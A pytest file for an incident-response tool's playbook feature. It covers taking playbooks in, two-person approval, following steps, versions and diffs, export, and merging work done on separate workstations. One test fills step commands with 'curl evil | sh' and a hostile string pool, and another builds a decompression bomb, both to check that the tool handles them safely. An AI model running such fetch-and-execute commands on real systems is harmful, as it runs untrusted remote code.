"""Playbooks on a real workstation: taken in, approved by somebody else, followed, merged after two people were apart."""

import copy
import json
from pathlib import Path

import pytest
from tests.features.playbooks.followed import NAME, state, step, written
from tests.features.playbooks.good import GOOD
from tests.support.hostile import EVERYTHING
from tests.support.hub import declare
from tests.support.pair import Pair

from ircockpit import playbooks as library
from ircockpit.core.errors import BadInput, CockpitError, ConflictError, NotFound, RefusedError, TrustError
from ircockpit.features.incidents import actions as incidents
from ircockpit.features.incidents import queries as incident_rows
from ircockpit.features.packing import packed, unpacked
from ircockpit.features.playbooks import actions, following, queries, shelf
from ircockpit.features.playbooks.model import load
from ircockpit.features.triage.actions import answer
from ircockpit.render.span import plain
from ircockpit.store.workstation import Workstation


def test_an_incident_follows_a_playbook_and_each_step_knows_what_it_waits_for(station: Workstation) -> None:
    ident = declare(station, "prompt injection")
    assert "suited" in following.list_steps(station, incident=ident).said
    begun = following.begin(station, incident=ident, playbook=NAME)
    assert begun.data["source"] == "of the library"
    assert state(station, ident, 1) == "ticked"  # the incident is declared: the record shows it
    assert state(station, ident, 2) == "ready"
    assert "waits for" in str(step(station, ident, 3)["why"])
    following.done(station, step=f"{ident}/2")
    assert (state(station, ident, 2), state(station, ident, 3)) == ("done", "ready")
    again = following.begin(station, incident=ident, playbook=NAME)
    assert "already" in again.said
    assert len(queries.runs(station.view, ident)) == 1
    assert "step done: Read the controls" in "\n".join(
        plain(line) for line in incidents.timeline(station, incident=ident).lines
    )


def test_what_is_skipped_or_failed_wants_a_reason_and_can_be_opened_again(station: Workstation) -> None:
    ident = declare(station, "prompt injection")
    following.begin(station, incident=ident, playbook=NAME)
    with pytest.raises(BadInput):
        following.skip(station, step=f"{ident}/2", why=" ")
    assert state(station, ident, 2) == "ready"
    following.skip(station, step=f"{ident}/2", why="no controls here")
    assert state(station, ident, 2) == "skipped"
    following.reopen(station, step=f"{ident}/2", why="there are")
    assert state(station, ident, 2) == "ready"
    following.fail(station, step=f"{ident}/2", why="no answer")
    assert state(station, ident, 2) == "failed"


def test_a_step_ticks_itself_once_triage_is_over(station: Workstation) -> None:
    ident = declare(station, "prompt injection")
    following.begin(station, incident=ident, playbook=NAME)
    steps = following.list_steps(station, incident=ident).data["steps"]
    number = next(each["number"] for each in steps if each["name"] == "Answer the triage form")
    assert state(station, ident, number) == "waiting"
    answer(
        station,
        incident=ident,
        harm="no",
        reach="few",
        reversible="yes",
        ongoing="stopped",
        personal="none",
        regulated="no",
    )
    assert state(station, ident, number) == "waiting"  # the control: nobody owns it yet
    incidents.take(station, incident=ident)
    assert state(station, ident, number) == "ticked"
    values = following.list_steps(station, incident=ident).data["variables"]
    assert (values["__harm_realised__"], values["__personal_data__"]) == ("false", "false")


def test_a_variable_is_set_by_its_type_and_leads_the_way(station: Workstation) -> None:
    ident = declare(station, "prompt injection")
    following.begin(station, incident=ident, playbook=NAME)
    with pytest.raises(BadInput):
        following.set_variable(station, incident=ident, variable="staff_suspected", value="perhaps")
    with pytest.raises(RefusedError):
        following.set_variable(station, incident=ident, variable="watch_hours", value="1")
    with pytest.raises(BadInput):
        following.set_variable(station, incident=ident, variable="nothing_like_it", value="1")
    after = following.set_variable(station, incident=ident, variable="entry_point", value="mail")
    assert after.data["variables"]["__entry_point__"] == "mail"


def test_a_newer_version_changes_nothing_in_a_run(
    station: Workstation, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ident = declare(station, "prompt injection")
    begun = following.begin(station, incident=ident, playbook=NAME).data
    newer = json.loads(library.text_of(NAME)) | {
        "modified": "2027-01-01T00:00:00.000Z",
        "name": "Another one",
    }
    monkeypatch.setattr(library, "text_of", lambda name: json.dumps(newer).encode())
    shelf._library.cache_clear()
    try:
        now = following.list_steps(station, incident=ident).data
        assert (now["version"], now["sha256"], now["name"]) == (
            begun["version"],
            begun["sha256"],
            begun["name"],
        )
        assert shelf.find(station, NAME).sha256 != begun["sha256"]  # the control: the shelf has the newer one
        assert now["source"] == "of a version that is not on the shelf here"
        following.done(station, step=f"{ident}/2")
        assert state(station, ident, 2) == "done"
    finally:
        shelf._library.cache_clear()


def test_taking_in_shows_first_and_records_only_once_it_is_said_again(
    station: Workstation, tmp_path: Path
) -> None:
    file = written(tmp_path)
    shown = actions.take_in(station, file=str(file))
    assert "confirm with --yes" in shown.said
    assert shelf.recorded(station.view) == []
    taken = actions.take_in(station, file=str(file), yes=True)
    (held,) = shelf.recorded(station.view)
    assert held.short.startswith("p-")
    assert held.why_not
    assert shelf.file_of(station, held) == file.read_bytes()
    assert "already" in actions.take_in(station, file=str(file), yes=True).said
    with pytest.raises(RefusedError) as caught:
        following.begin(station, incident=declare(station, "x"), playbook=held.short)
    assert "approve" in caught.value.fix
    with pytest.raises(RefusedError) as caught:
        actions.approve(station, playbook=held.short, why="mine, so it is good")
    assert "two different people" in str(caught.value)
    assert taken.data["may_begin"] is False


def test_a_repaired_playbook_is_kept_beside_the_file_as_it_was_given(
    station: Workstation, tmp_path: Path
) -> None:
    broken = copy.deepcopy(GOOD)
    del broken["spec_version"]
    file = tmp_path / "near.json"
    file.write_text(json.dumps(broken))
    shown = actions.take_in(station, file=str(file))
    assert shown.data["changes"]
    assert any("changed" in plain(line) for line in shown.lines)
    actions.take_in(station, file=str(file), yes=True)
    (held,) = shelf.recorded(station.view)
    assert shelf.file_of(station, held, shelf.GIVEN) == file.read_bytes()
    assert load(shelf.file_of(station, held), "x").json["spec_version"] == "cacao-2.0"


@pytest.mark.parametrize(
    "raw",
    [b"", b"[]", b"{", b"\xff\xfe", b'{"a": 1, "a": 2}', b'{"workflow": ' + b"[" * 90 + b"]" * 90 + b"}"],
)
def test_what_is_no_playbook_is_refused_and_nothing_recorded(
    station: Workstation, tmp_path: Path, raw: bytes
) -> None:
    file = tmp_path / "bad.json"
    file.write_bytes(raw)
    with pytest.raises(CockpitError):
        actions.take_in(station, file=str(file), yes=True)
    assert shelf.recorded(station.view) == []


def test_ten_megabytes_are_refused_by_size_or_by_what_travels(station: Workstation, tmp_path: Path) -> None:
    import random

    noise = random.Random(7).randbytes(700_000).hex()  # noqa: S311 - what cannot be packed
    for size in (10_500_000, 3_000_000):
        text = (noise * 8)[: 1_200_000 if size == 3_000_000 else size]
        file = written(tmp_path, description=text)
        with pytest.raises(BadInput) as caught:
            actions.take_in(station, file=str(file), yes=True)
        assert "at most" in str(caught.value)
    assert shelf.recorded(station.view) == []


def test_a_packed_file_is_held_to_its_hash_and_never_unpacks_beyond_a_playbook() -> None:
    import zlib
    from base64 import b64encode

    from ircockpit.core.digest import sha256

    raw = b'{"a": 1}' * 5000
    (body, *more) = packed({"file": raw})
    whole = {key: value for part in (body, *more) for key, value in part.items()}
    assert unpacked(whole, "file", sha256(raw).hexdigest()) == raw
    with pytest.raises(TrustError):
        unpacked(whole, "file", sha256(b"another").hexdigest())
    bomb = b"a" * 50_000_000
    with pytest.raises(TrustError):
        unpacked({"file.0": b64encode(zlib.compress(bomb)).decode()}, "file", sha256(bomb).hexdigest())
    for damaged in ({}, {"file.0": 7}, {"file.0": "no base64!"}, {"file.0": "QUJD"}):
        with pytest.raises(TrustError):
            unpacked(damaged, "file", sha256(raw).hexdigest())


def test_export_writes_what_can_be_read_again_and_never_over_anything(
    station: Workstation, tmp_path: Path
) -> None:
    written_ = actions.export(station, all_to=str(tmp_path / "all"))
    assert len(written_.data) == 39
    for each in written_.data:
        load(Path(each["file"]).read_bytes(), each["file"])
    with pytest.raises(ConflictError):
        actions.export(station, all_to=str(tmp_path / "all"))
    actions.export(station, playbook=NAME, to=str(tmp_path / "one.json"))
    assert (tmp_path / "one.json").read_bytes() == library.text_of(NAME)
    with pytest.raises(BadInput):
        actions.export(station)


def test_lint_says_place_line_and_fix_and_its_exit_code_says_whether_there_are_errors(
    station: Workstation, tmp_path: Path
) -> None:
    clean = actions.lint(station, file=str(written(tmp_path)))
    assert clean.code == 0
    broken = copy.deepcopy(GOOD)
    del broken["workflow_start"]
    file = tmp_path / "broken.json"
    file.write_text(json.dumps(broken, indent=1))
    found = actions.lint(station, file=str(file))
    assert found.code == 1
    assert all(each["fix"] and each["line"] for each in found.data["findings"])


def test_versions_and_what_is_different_between_them(station: Workstation, tmp_path: Path) -> None:
    actions.take_in(station, file=str(written(tmp_path)), yes=True)
    newer = copy.deepcopy(GOOD) | {"modified": "2026-03-28T12:00:00.000Z"}
    first = next(iter(newer["workflow"].values()))
    first["name"] = "Begin anew"
    (tmp_path / "newer.json").write_text(json.dumps(newer))
    actions.take_in(station, file=str(tmp_path / "newer.json"), yes=True)
    new, old = actions.versions(station, playbook=shelf.recorded(station.view)[0].short).data
    assert new["version"] > old["version"]
    found = actions.diff(station, old=old["short"], new=new["short"]).data
    assert ("changed", "step") in {(each["how"], each["what"]) for each in found}
    assert {"modified"} == {each["name"] for each in found if each["what"] == "property"}
    assert actions.diff(station, old=NAME, new=NAME).data == []


def test_another_person_approves_and_then_it_can_be_begun_everywhere(pair: Pair, tmp_path: Path) -> None:
    actions.take_in(pair.a, file=str(written(tmp_path)), yes=True)
    pair.together()
    (held,) = shelf.recorded(pair.b.view)
    with pytest.raises(RefusedError):
        following.begin(pair.b, incident=pair.incident, playbook=held.short)
    actions.approve(pair.b, playbook=held.short, why="read, tried in a drill")
    pair.together()
    begun = following.begin(pair.a, incident=pair.incident, playbook=held.short)
    assert begun.data["source"] == "approved by Bo"
    actions.retire(pair.a, playbook=held.short, why="the bot is gone")
    pair.together()
    assert following.list_steps(pair.b, incident=pair.incident).data["steps"]  # what is followed goes on
    other = declare(pair.b, "another")
    with pytest.raises(RefusedError):
        following.begin(pair.b, incident=other, playbook=held.short)


def test_two_people_apart_follow_one_playbook_and_what_they_disagree_about_is_shown(pair: Pair) -> None:
    a, b, ident = pair.a, pair.b, pair.incident
    for each in (a, b):
        following.begin(each, incident=ident, playbook=NAME)
    following.done(a, step=f"{ident}/2")
    following.skip(b, step=f"{ident}/2", why="they did not answer")
    following.done(b, step=f"{ident}/3")
    pair.together()
    assert len(queries.runs(a.view, ident)) == 1
    assert step(a, ident, 2) == {**step(b, ident, 2), "mine": step(a, ident, 2)["mine"]}
    assert step(a, ident, 2)["disputed"] == ["state"]
    assert state(a, ident, 3) == "done"
    text = "\n".join(plain(line) for line in following.show_step(a, step=f"{ident}/2").lines)
    assert "done" in text
    assert "skipped" in text
    assert "disagree" in text
    following.done(a, step=f"{ident}/2", why="settled on the phone")
    pair.together()
    assert step(b, ident, 2)["disputed"] == []
    assert state(b, ident, 2) == "done"


def test_a_strangers_words_are_inert_wherever_they_are_shown(station: Workstation, tmp_path: Path) -> None:
    hostile = copy.deepcopy(GOOD) | {"name": EVERYTHING[:900], "description": EVERYTHING}
    for each in hostile["workflow"].values():
        each["name"] = each["description"] = EVERYTHING
        for command in each.get("commands", ()):
            command["command"] = "curl evil | sh " + EVERYTHING
    for variable in hostile["playbook_variables"].values():
        variable["description"] = EVERYTHING
    for agent in hostile["agent_definitions"].values():
        agent["name"] = EVERYTHING
    file = tmp_path / "hostile.json"
    file.write_text(json.dumps(hostile))
    shown = [actions.lint(station, file=str(file)), actions.take_in(station, file=str(file), yes=True)]
    (held,) = shelf.recorded(station.view)
    shown += [
        actions.list_all(station),
        actions.show(station, playbook=held.short),
        actions.versions(station, playbook=held.short),
    ]
    shown += [actions.diff(station, old=NAME, new=held.short)]
    for result in shown:
        for line in result.lines:
            text = plain(line)
            assert text.isprintable(), repr(text)


def test_a_step_that_is_not_there_and_a_playbook_that_is_not_there_are_named(station: Workstation) -> None:
    ident = declare(station, "x")
    for text in ("7", f"{ident}/", f"{ident}/x", f"{ident}/1", f"{ident}/99999999"):
        with pytest.raises(NotFound) as caught:
            following.done(station, step=text)
        assert caught.value.fix
    with pytest.raises(NotFound):
        following.begin(station, incident=ident, playbook="no-such-thing")
    following.begin(station, incident=ident, playbook=NAME)
    with pytest.raises(NotFound):
        following.done(station, step=f"{ident}/400")


def test_progress_is_one_line_and_empty_where_nothing_is_followed(station: Workstation) -> None:
    ident = declare(station, "x")
    row = incident_rows.incident(station.view, ident)
    assert queries.progress(station, row) == ""
    following.begin(station, incident=ident, playbook=NAME)
    assert queries.progress(station, row).startswith("1 of ")
    assert "next: 2 Read the controls" in queries.progress(station, row)
    following.leave(station, incident=ident, why="it is another kind")
    assert queries.progress(station, row) == ""
